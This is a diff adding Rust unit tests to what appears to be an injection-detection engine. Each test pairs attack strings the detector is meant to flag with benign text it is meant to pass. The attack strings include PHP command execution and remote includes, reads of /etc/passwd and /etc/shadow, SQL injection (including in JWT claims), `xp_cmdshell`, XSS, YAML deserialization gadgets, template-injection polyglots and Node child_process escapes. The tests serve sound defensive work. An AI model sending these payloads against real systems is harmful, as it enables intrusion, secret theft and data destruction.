@@ -189,6 +189,220 @@ fn php_code_tags_callables_variable_functions_and_uploads() {
 }
 
 #[test]
+fn php_calls_need_arguments_and_include_needs_a_php_path() {
+    table(
+        "php",
+        Q,
+        &[
+            "system('id');",
+            "exec($_GET['c'])",
+            "assert($_POST['c'])",
+            "assert(\"system('id')\")",
+            "assert(base64_decode('c3lzdGVtKCdpZCcp'))",
+            "printf(foo)",
+            "posix_kill(1234, 9)",
+            "phpinfo()",
+            "getenv()",
+            "include('/tmp/shell.php');",
+            "require($_GET['file'])",
+            "include_once(\"php://input\")",
+            "require('http://203.0.113.9/x.txt')",
+            "include('uploads/avatar.jpg')",
+            "require(__DIR__ . '/x')",
+            "require('a' . $b)",
+            "strrev( )",
+            "chroot\t()",
+            "gethostbyname(",
+        ],
+        &[
+            "fopen() failed, see the log",
+            "exec() in the child process",
+            "Flush all output before system().",
+            "see exec(5) and printf(3)",
+            "const { join } = require('node:path');",
+            "const lodash = require('lodash');",
+            "const foo = require('./foo');",
+            "require() hack by a contributor",
+            "assert(ret == Z_OK);",
+            "assert(out != NULL);",
+        ],
+    );
+    table(
+        "nodejs",
+        Q,
+        &[
+            "require('child_process').exec('id')",
+            "require('node:child_process').execSync('id')",
+            "require(\"node:fs\").readFileSync('/etc/hosts')",
+        ],
+        &["require('node:util')", "node: a fs mount"],
+    );
+}
+
+#[test]
+fn sensitive_paths_as_a_value_not_as_words_of_a_sentence() {
+    table(
+        "lfi",
+        Q,
+        &[
+            "/etc/passwd",
+            "  /etc/shadow",
+            "file:///etc/passwd",
+            "....//....//etc/passwd",
+            "x=/proc/self/environ",
+            "<!--#include file=\"/etc/passwd\"-->",
+            "see /etc/passwd",
+            "read\n/etc/shadow\n",
+            "load_file('/etc/passwd')",
+        ],
+        &[
+            "The files /etc/passwd and /etc/group are read at login.",
+            "search domain from /etc/resolv.conf as additional",
+            "NFS file system in /proc/mounts -- e.g.,",
+            "Create /var/log/journal on upgrade",
+        ],
+    );
+}
+
+#[test]
+fn jwt_claims_read_by_the_application_without_its_identity_provider_urls() {
+    use base64::Engine as _;
+    let b64u = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
+    let bearer = |claims: &str| {
+        format!(
+            "Bearer {}.{}.c2lnbmF0dXJl",
+            b64u(r#"{"alg":"HS256","typ":"JWT"}"#),
+            b64u(claims)
+        )
+    };
+    let h = FieldKind::HeaderValue;
+    let attacks = [
+        bearer(r#"{"sub":"42' UNION SELECT password FROM users--","iat":1516239022}"#),
+        bearer(r#"{"sub":"42","avatar":"../../../../etc/passwd"}"#),
+        bearer(r#"{"name":"<script>alert(1)</script>"}"#),
+    ];
+    let legit = [
+        bearer(
+            r#"{"iss":"http://10.0.0.5/realms/a","aud":["http://10.0.0.5/api"],"sub":"42","name":"Tim O'Reilly","email":"tim@example.com","scope":"openid profile"}"#,
+        ),
+        bearer(r#"{"sub":"42","roles":["admin","user"],"exp":1516239022}"#),
+    ];
+    table("sqli", h, &[attacks[0].as_str()], &[legit[0].as_str()]);
+    table("lfi", h, &[attacks[1].as_str()], &[legit[1].as_str()]);
+    table("xss", h, &[attacks[2].as_str()], &[]);
+}
+
+#[test]
+fn python_subprocess_calls_with_arguments_not_its_documentation() {
+    table(
+        "code",
+        Q,
+        &[
+            "subprocess.check_output(['id'])",
+            "import subprocess;subprocess.Popen('id', shell=True)",
+            "subprocess . call ( 'ls' )",
+        ],
+        &[
+            "The `subprocess.kill()` method sends a signal",
+            "error handle passed to the subprocess.",
+            "<code>subprocess.stderr</code> is a stream",
+            "A bufsize value of 0 in subprocess.Popen() really",
+        ],
+    );
+}
+
+#[test]
+fn whole_sql_statements_as_a_value_but_not_menu_labels() {
+    table(
+        "sqli",
+        Q,
+        &[
+            "SELECT * FROM users",
+            "select username, password from accounts",
+            "SELECT password FROM users WHERE id = 42",
+            "SELECT password FROM users;",
+            "DROP TABLE users",
+            "drop database if exists prod;",
+            "TRUNCATE TABLE audit_log",
+            "DELETE FROM orders WHERE 1",
+            "SHOW DATABASES",
+            "show tables;",
+            "ALTER TABLE users ADD is_admin int",
+            "EXEC sp_who",
+            "exec master..xp_cmdshell 'dir'",
+        ],
+        &[
+            "Select your plan from the list",
+            "select all from the menu",
+            "Select name from list",
+            "Delete from cart",
+            "delete from the list",
+            "Drop table of contents",
+            "Show tables and charts",
+            "Alter table layout",
+            "execute the plan",
+        ],
+    );
+}
+
+#[test]
+fn yaml_object_tags_and_template_polyglots() {
+    table(
+        "code",
+        Q,
+        &[
+            "!!python/object/apply:os.system [\"id\"]",
+            "key: !!python/name:subprocess.Popen",
+            "--- !ruby/object:Gem::Installer\ni: x",
+            "!!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection",
+        ],
+        &[
+            "!!python is great",
+            "items: !!str 42",
+            "tags: [ruby, object]",
+            "see ruby/object.c in the source",
+        ],
+    );
+    table(
+        "ssti",
+        Q,
+        &["${{<%[%'\"}}%\\.", "{{<%", "#{[%x", "<%${{"],
+        &[
+            "<%= name %> and ${price}",
+            "50% {{discount}}",
+            "{{ item }} <% end %>",
+            "[%] of {{total}}",
+        ],
+    );
+}
+
+#[test]
+fn node_console_calls_count_as_probes_and_child_process_only_when_loaded() {
+    table(
+        "nodejs",
+        Q,
+        &[
+            "console.info(1)",
+            "console.log(7*7+1)",
+            "console.log(document.cookie)",
+            "console['log'](x)",
+            "console.log.call(null, 1)",
+            "global.process.mainModule.constructor._load('child_process')",
+            "require.main.constructor._load(child_process).spawn('id')",
+            "new Function('return process')()",
+        ],
+        &[
+            "console.log(buf);",
+            "console.log('Stream is done reading.');",
+            "console.error(err)",
+            "See child_process.spawn for the options.",
+            "<code>child_process</code> module",
+            "* mark_rts.c (GC_push_all_stack_frames): New function (only if",
+        ],
+    );
+}
+
+#[test]
 fn node_deserialization_and_sandbox_escapes() {
     table(
         "nodejs",
